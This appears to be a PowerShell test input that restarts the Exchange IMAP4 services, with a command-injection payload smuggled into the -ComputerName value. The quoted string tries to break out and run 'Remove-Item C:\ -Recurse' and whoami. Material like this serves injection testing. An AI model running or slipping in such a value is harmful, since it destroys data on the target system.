Get-Service -ComputerName 'EX01''; Remove-Item C:\ -Recurse; ''’’$(whoami)`n
x' -Name @('MSExchangeIMAP4','MSExchangeIMAP4BE') | Restart-Service -Force
